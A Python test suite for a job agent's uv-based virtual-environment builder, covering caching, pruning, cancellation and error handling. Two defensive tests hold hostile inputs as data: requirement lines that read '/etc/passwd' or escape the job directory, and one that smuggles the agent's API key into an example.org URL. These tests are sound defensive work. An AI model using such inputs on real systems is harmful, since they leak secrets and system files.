import asyncio
import base64
import hashlib
import os
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from runyard.agent.environments import Environment, Environments
from runyard.client.requirements import read_requirements
from runyard.domain.errors import HostFault, Invalid, Rejected, Unavailable

HOST = {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/")}


def wheel(folder: Path, name: str, version: str) -> None:
    """Write a package that an index would have: one module with its version."""
    folder.mkdir(exist_ok=True)
    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}.py": f"VERSION = {version!r}\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = ""
    for path, text in files.items():
        made = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record += f"{path},sha256={made.decode()},{len(text)}\n"
    with zipfile.ZipFile(folder / f"{name}-{version}-py3-none-any.whl", "w") as made_wheel:
        for path, text in {**files, f"{info}/RECORD": f"{record}{info}/RECORD,,\n"}.items():
            made_wheel.writestr(path, text)


class Maker:
    def __init__(self, tmp_path: Path) -> None:
        self.root = tmp_path / "environments"
        self.wheels = tmp_path / "wheels"
        self.log = bytearray()
        self.env = {**HOST, "UV_CACHE_DIR": str(tmp_path / "uv"), "UV_OFFLINE": "1"}
        for version in ("1.0", "2.0"):
            wheel(self.wheels, "lathe", version)

    def environments(self) -> Environments:
        return Environments(self.root, host_env=self.env)

    def __call__(self, directory: Path, python: str | None = None) -> Environment | None:
        made = self.environments().for_directory(directory, python=python, log=self.log.extend)
        return asyncio.run(made)

    def code(self, directory: Path, requirements: str, **files: str) -> Path:
        directory.mkdir(exist_ok=True)
        text = f"--no-index\n--find-links {self.wheels}\n{requirements}"
        for name, content in {"requirements.txt": text, **files}.items():
            (directory / name).parent.mkdir(exist_ok=True)
            (directory / name).write_text(content)
        return directory


@pytest.fixture
def maker(tmp_path: Path) -> Maker:
    return Maker(tmp_path)


def version_in(environment: Environment | None) -> str:
    assert environment is not None
    return subprocess.run(
        ["python", "-c", "import lathe; print(lathe.VERSION)"],
        env=dict(environment.env),
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()


def test_an_environment_is_made_once_per_content_and_used_by_all(
    maker: Maker, tmp_path: Path
) -> None:
    first = maker(maker.code(tmp_path / "one", "lathe==1.0"))
    assert version_in(first) == "1.0"
    assert b"requirements.txt" in maker.log
    assert b"lathe" in maker.log
    maker.log.clear()
    assert maker(maker.code(tmp_path / "two", "lathe==1.0")) == first
    assert maker.log == b""
    other = maker(maker.code(tmp_path / "three", "lathe==2.0"))
    assert other != first
    assert version_in(other) == "2.0"
    assert other is not None
    assert other.env["PATH"].split(os.pathsep)[0] == str(other.bin)
    assert other.env["VIRTUAL_ENV"] == str(other.bin.parent)


def test_a_project_has_its_dependencies_installed(maker: Maker, tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "x"\nversion = "1"\ndependencies = ["lathe<2"]\n'
        f'[tool.uv]\nno-index = true\nfind-links = ["{maker.wheels}"]\n'
    )
    assert version_in(maker(tmp_path)) == "1.0"


def test_code_that_asks_for_nothing_runs_with_what_the_host_has(
    maker: Maker, tmp_path: Path
) -> None:
    assert maker(tmp_path) is None
    (tmp_path / "pyproject.toml").write_text("[tool.ruff]\n")
    assert maker(tmp_path) is None
    assert not maker.root.exists()


def test_included_files_belong_to_the_content(maker: Maker, tmp_path: Path) -> None:
    directory = maker.code(
        tmp_path / "one", "-r more/base.txt\n", **{"more/base.txt": "lathe\n-c pins.txt\n"}
    )
    (directory / "more/pins.txt").write_text("lathe==1.0\n")
    first = maker(directory)
    assert version_in(first) == "1.0"
    (directory / "more/pins.txt").write_text("lathe==2.0\n")
    assert version_in(maker(directory)) == "2.0"


@pytest.mark.parametrize(
    "line",
    ["-r ../../x.txt", "-r/etc/passwd", "--requirement=/etc/passwd", "-c ../x.txt", "-r link.txt",
     "--constraint ../x.txt", "-r sub/../../x.txt"],
)  # fmt: skip
def test_T11_included_files_stay_within_the_jobs_directory(
    maker: Maker, tmp_path: Path, line: str
) -> None:
    (tmp_path / "x.txt").write_text("")
    directory = maker.code(tmp_path / "one", line)
    (directory / "sub").mkdir()
    os.symlink("../x.txt", directory / "link.txt")
    with pytest.raises(Rejected, match="outside of the job's directory"):
        maker(directory)


def test_a_missing_included_file_is_named(maker: Maker, tmp_path: Path) -> None:
    with pytest.raises(Rejected, match=r"requirements\.txt names 'base\.txt'"):
        maker(maker.code(tmp_path / "one", "-r base.txt"))


@pytest.mark.parametrize(
    ("line", "shared"),
    [
        ("numpy>=1.26,<3  # the usual", True),
        ("torch[cuda]==2.1 ; python_version < '3.13'", True),
        ("--index-url https://example.org/simple/", True),
        ("--extra-index-url=https://example.org/simple/", True),
        ("x @ https://example.org/x-1.0-py3-none-any.whl", True),
        ("x @ git+https://example.org/x@abc", True),
        ("-e .", False),
        (".", False),
        ("./package", False),
        (".[extra]", False),
        ("vendor/x-1.0-py3-none-any.whl", False),
        ("x-1.0-py3-none-any.whl", False),
        ("x @ file:vendor/x", False),
        ("--find-links wheels", False),
        ("-r https://example.org/requirements.txt", False),
    ],
)
def test_only_what_its_text_decides_is_shared(tmp_path: Path, line: str, shared: bool) -> None:
    (tmp_path / "requirements.txt").write_text(line)
    wanted = read_requirements(tmp_path)
    assert wanted is not None
    assert wanted.shared is shared


def test_a_package_of_the_directory_itself_gets_an_environment_of_its_own(
    maker: Maker, tmp_path: Path
) -> None:
    code = maker.code(tmp_path / "one", f"./wheels/{'lathe-1.0-py3-none-any.whl'}\n")
    wheel(code / "wheels", "lathe", "1.0")
    made = maker(code)
    assert version_in(made) == "1.0"
    assert made is not None
    assert made.bin.is_relative_to(code)


def test_many_at_once_in_two_processes_worth_of_tasks_make_it_once(
    maker: Maker, tmp_path: Path
) -> None:
    code = maker.code(tmp_path / "one", "lathe==1.0")

    async def all_at_once() -> list[Environment | None]:
        # Each its own object, as in another process: only the lock file is common.
        return await asyncio.gather(
            *(
                maker.environments().for_directory(code, python=None, log=maker.log.extend)
                for _ in range(8)
            )
        )

    made = asyncio.run(all_at_once())
    assert len({str(each) for each in made}) == 1
    assert bytes(maker.log).count(b"making a Python") == 1


def test_what_uv_refuses_is_told_in_its_words_and_leaves_nothing(
    maker: Maker, tmp_path: Path
) -> None:
    with pytest.raises(Rejected, match="no-such-package"):
        maker(maker.code(tmp_path / "one", "no-such-package==9"))
    assert [path for path in maker.root.iterdir() if path.suffix != ".lock"] == []
    with pytest.raises(Rejected, match=r"Python cannot be had.*3\.99"):
        maker(maker.code(tmp_path / "one", "lathe"), python="3.99")
    with pytest.raises(Invalid, match="runtime"):
        maker(maker.code(tmp_path / "one", "lathe"), python="--python-preference")


def test_an_index_that_cannot_be_reached_is_for_now(maker: Maker, tmp_path: Path) -> None:
    del maker.env["UV_OFFLINE"]
    maker.env |= {"UV_HTTP_TIMEOUT": "1", "UV_HTTP_RETRIES": "0"}
    (tmp_path / "requirements.txt").write_text("--index-url http://127.0.0.1:1/simple\nlathe\n")
    with pytest.raises(Unavailable, match="cannot be reached"):
        maker(tmp_path)


def test_one_half_built_is_built_again(maker: Maker, tmp_path: Path) -> None:
    code = maker.code(tmp_path / "one", "lathe==1.0")
    first = maker(code)
    assert first is not None
    (first.bin.parent / ".runyard-ready").unlink()
    (first.bin / "python").unlink()
    assert version_in(maker(code)) == "1.0"


def test_cancelling_stops_uv_and_removes_what_it_made(maker: Maker, tmp_path: Path) -> None:
    slow = tmp_path / "uv-that-hangs"
    slow.write_text(f'#!/bin/sh\necho $$ > {tmp_path}/pid\nmkdir -p "$5"\nsleep 600\n')
    slow.chmod(0o755)
    code = maker.code(tmp_path / "one", "lathe==1.0")

    async def story() -> None:
        environments = Environments(maker.root, str(slow), host_env=maker.env)
        making = asyncio.create_task(
            environments.for_directory(code, python=None, log=maker.log.extend)
        )
        while not (tmp_path / "pid").exists() or not (tmp_path / "pid").read_text():
            await asyncio.sleep(0.01)
        making.cancel()
        with pytest.raises(asyncio.CancelledError):
            await making

    asyncio.run(story())
    with pytest.raises(ProcessLookupError):
        os.kill(int((tmp_path / "pid").read_text()), 0)
    assert [path for path in maker.root.iterdir() if path.suffix != ".lock"] == []


def test_T14_requirements_cannot_read_the_agents_environment(maker: Maker, tmp_path: Path) -> None:
    maker.env["RUNYARD_API_KEY"] = "hunter2"
    code = maker.code(tmp_path / "one", "x @ https://${RUNYARD_API_KEY}.example.org/x-1.tar.gz\n")
    with pytest.raises(Rejected) as refused:
        maker(code)
    assert "hunter2" not in refused.value.message
    assert b"hunter2" not in maker.log


def test_pruning_removes_what_no_job_asked_for_in_a_while(maker: Maker, tmp_path: Path) -> None:
    old = maker(maker.code(tmp_path / "one", "lathe==1.0"))
    new = maker(maker.code(tmp_path / "two", "lathe==2.0"))
    assert old is not None
    assert new is not None
    now = datetime.now(UTC)
    then = (now - timedelta(days=40)).timestamp()
    os.utime(old.bin.parent / ".runyard-ready", (then, then))
    since = now - timedelta(days=30)
    assert asyncio.run(maker.environments().prune(unused_since=since)) == 1
    assert not old.bin.exists()
    assert new.bin.exists()


def test_the_agents_own_python_is_the_default(maker: Maker, tmp_path: Path) -> None:
    made = maker(maker.code(tmp_path / "one", "lathe"))
    assert made is not None
    answer = subprocess.run(
        [str(made.bin / "python"), "-c", "import sys; print(sys.version_info[:2])"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    assert answer.strip() == str(tuple(sys.version_info[:2]))


def test_a_host_that_lost_its_tools_is_at_fault(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("anyio\n")
    lost = Environments(tmp_path / "envs", uv=str(tmp_path / "uv"))
    with pytest.raises(HostFault, match="not on the agent's host any more"):
        asyncio.run(lost.for_directory(tmp_path, python=None, log=lambda _: None))


def test_a_host_that_lost_its_python_is_at_fault(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "requirements.txt").write_text("anyio\n")
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
    environments = Environments(tmp_path / "envs")
    with pytest.raises(HostFault, match="python is not on"):
        asyncio.run(environments.for_directory(tmp_path, python=None, log=lambda _: None))
